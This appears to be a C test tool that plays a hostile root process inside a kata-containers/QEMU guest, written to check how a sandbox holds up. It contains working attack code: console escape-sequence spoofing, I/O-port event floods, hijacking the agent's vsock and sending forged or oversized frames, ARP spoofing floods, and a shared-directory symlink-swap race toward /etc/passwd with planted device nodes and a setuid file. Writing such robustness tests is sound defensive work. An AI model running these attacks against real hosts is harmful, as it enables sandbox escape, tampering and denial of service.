// What root in a guest does to whoever runs it, until it is killed: `attack WAY [ARGUMENT]`. Static. The hand of test/fault/init starts it,
// in the guest's first namespaces, with /proc and /dev below /hand. It attacks as a hostile kernel would, as far as a process can: by ports
// of the machine, by the agent's own serial port, by the card, by the shared directory.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

// On the console, in the agent's words, so that it is in the sandbox's log.
static int failed(const char *what) {
    fprintf(stderr, "saya-agent error: attack: %s: %s\r\n", what, strerror(errno));
    return 1;
}

static bool write_all(int fd, const void *bytes, size_t length) {
    const char *at = bytes;
    while (length > 0) {
        ssize_t count = write(fd, at, length);
        if (count < 0 && errno == EAGAIN) {
            struct pollfd p = {.fd = fd, .events = POLLOUT};
            poll(&p, 1, -1);
        } else if (count < 0 && errno != EINTR) {
            return false;
        } else if (count > 0) {
            at += count;
            length -= (size_t)count;
        }
    }
    return true;
}

// ---- the console: lines in the agent's name that steer a terminal

static int console(void) {
    static const char line[] = "saya-agent error: fl\033[2J\007\233ooded\r\n<3>saya-agent warning: \033]0;x\007 and again\n";
    static char lines[sizeof line * 40];
    for (int i = 0; i < 40; i++) strcat(lines, line);
    int fd = open("/hand/dev/ttyS0", O_WRONLY | O_NOCTTY);
    while (write_all(fd, lines, strlen(lines)))
        ;
    return failed("console");
}

// ---- events of the monitor: each write has QEMU tell of one

enum { PVPANIC = 0x505, CRASH_LOADED = 2, CPUS = 0xcd8, CPU_COMMAND = CPUS + 5, CPU_DATA = CPUS + 8, OST_STATUS = 2 };

// RATE of them a second, 0: as fast as they go.
static int events(int rate) {
    if (iopl(3) != 0) return failed("iopl");
    outl(0, CPUS); // the first processor
    for (bool panic = true;; panic = !panic) {
        if (panic) {
            outb(CRASH_LOADED, PVPANIC);
        } else {
            outb(OST_STATUS, CPU_COMMAND);
            outl(1, CPU_DATA);
        }
        if (rate > 0) usleep(1000000u / (unsigned)rate);
    }
}

// ---- the agent's channel: by the descriptor of the agent, since the port can be opened once

static int agents_port(void) {
    int agent = (int)syscall(SYS_pidfd_open, 1, 0);
    for (int fd = 0; fd < 256; fd++) {
        char link[64], path[256];
        snprintf(link, sizeof link, "/hand/proc/1/fd/%d", fd);
        ssize_t length = readlink(link, path, sizeof path - 1);
        if (length < 0) continue;
        path[length] = '\0';
        if (strstr(path, "vport0p1")) return (int)syscall(SYS_pidfd_getfd, agent, fd, 0);
    }
    errno = ENOENT;
    return -1;
}

enum { REQUEST = 1, RESPONSE = 2, DATA = 3, HEADER = 10, PAYLOAD = 1000 };

static void header(uint8_t *frame, uint32_t length, uint32_t stream, uint8_t type) {
    uint32_t words[] = {htonl(length), htonl(stream)};
    memcpy(frame, words, sizeof words);
    frame[8] = type;
    frame[9] = 0;
}

// Whole frames, so that those of the agent, which goes on, stay whole as well.
static int frames(uint8_t type) {
    int port = agents_port();
    uint8_t frame[HEADER + PAYLOAD] = {0};
    for (uint32_t stream = 1000001;; stream += 2) {
        header(frame, PAYLOAD, stream, type);
        if (!write_all(port, frame, sizeof frame)) return failed("the agent's port");
    }
}

static int garbage(void) {
    int port = agents_port();
    uint8_t bytes[65536];
    memset(bytes, 0xff, sizeof bytes);
    while (write_all(port, bytes, sizeof bytes))
        ;
    return failed("the agent's port");
}

// One frame of 4 GiB.
static int huge(void) {
    int port = agents_port();
    static uint8_t bytes[65536];
    uint8_t begin[HEADER];
    header(begin, 0xffffffff, 1000001, RESPONSE);
    write_all(port, begin, sizeof begin);
    while (write_all(port, bytes, sizeof bytes))
        ;
    return failed("the agent's port");
}

// A frame that is let through, byte by byte: a read of the daemon's each.
static int bytes(void) {
    int port = agents_port();
    uint8_t begin[HEADER];
    header(begin, 4 << 20, 1000001, RESPONSE);
    if (!write_all(port, begin, sizeof begin)) return failed("the agent's port");
    while (write_all(port, "", 1))
        ;
    return failed("the agent's port");
}

// ---- the card: frames of random senders, to everybody

static int card(void) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = ETH_ALEN};
    if (to.sll_ifindex == 0) return failed("eth0");
    uint8_t frame[42] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, [12] = 0x08, 0x06, 0, 1, 8, 0, 6, 4, 0};
    for (unsigned number = 0;; number++) {
        frame[21] = number % 2 + 1; // a question, an answer
        frame[6] = frame[22] = 2;   // a sender that is nobody's
        uint32_t sender = (uint32_t)rand();
        memcpy(frame + 8, &sender, 4);
        memcpy(frame + 24, &sender, 4);
        memcpy(frame + 28, &sender, 4);
        memcpy(frame + 38, &sender, 4);
        if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0 && errno != ENOBUFS) return failed("sendto");
    }
}

// ---- the shared directory: a container's root, with all rights

// Makes a directory in the root of a container, below where the agent has what the host shares, and opens it.
static int shared(void) {
    static const char containers[] = "/hand/proc/1/root/run/kata-containers/shared/containers";
    DIR *all = opendir(containers);
    for (struct dirent *entry; all && (entry = readdir(all));) {
        char path[512];
        snprintf(path, sizeof path, "%s/%s/rootfs/hostile", containers, entry->d_name);
        if (entry->d_name[0] == '.' || (mkdir(path, 0777) != 0 && errno != EEXIST)) continue;
        closedir(all);
        return open(path, O_DIRECTORY | O_CLOEXEC);
    }
    return -1;
}

static int count(int directory) {
    int found = 0;
    DIR *all = fdopendir(openat(directory, ".", O_DIRECTORY | O_CLOEXEC));
    while (all && readdir(all)) found++;
    if (all) closedir(all);
    return found;
}

static int files(void) {
    int top = shared();
    if (top < 0) return failed("no shared directory");
    mknodat(top, "disk", S_IFBLK | 0666, makedev(8, 0));
    mknodat(top, "zero", S_IFCHR | 0666, makedev(1, 5));
    int program = openat(top, "set-uid", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    write_all(program, "#!/bin/sh\nid\n", 13);
    fchmod(program, 06755);
    close(program);
    mkdirat(top, "here", 0777);
    symlinkat("/../../../../../../../../etc", top, "out");
    symlinkat("/proc/self/root", top, "\033[2J\007name");
    for (int i = 0; i < 500; i++) { // open they stay
        char name[32];
        snprintf(name, sizeof name, "open%d\033[31m", i);
        if (openat(top, name, O_CREAT | O_RDWR | O_CLOEXEC, 0666) < 0) break;
    }
    for (unsigned i = 0;; i++) {
        char name[32];
        snprintf(name, sizeof name, "file%u", i % 3000);
        close(openat(top, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
        // A directory that is a link out of the share each second moment.
        renameat2(top, "here", top, "out", RENAME_EXCHANGE);
        close(openat(top, "here/passwd", O_RDONLY | O_CLOEXEC));
        if (i % 1000 == 0) count(top);
    }
}

int main(int argc, char **argv) {
    const char *way = argc > 1 ? argv[1] : "";
    if (strcmp(way, "console") == 0) return console();
    if (strcmp(way, "events") == 0) return events(argc > 2 ? atoi(argv[2]) : 0);
    if (strcmp(way, "unwanted") == 0) return frames(RESPONSE);
    if (strcmp(way, "data") == 0) return frames(DATA);
    if (strcmp(way, "requests") == 0) return frames(REQUEST);
    if (strcmp(way, "garbage") == 0) return garbage();
    if (strcmp(way, "huge") == 0) return huge();
    if (strcmp(way, "bytes") == 0) return bytes();
    if (strcmp(way, "card") == 0) return card();
    if (strcmp(way, "files") == 0) return files();
    fprintf(stderr, "attack: no way \"%s\"\n", way);
    return 2;
}
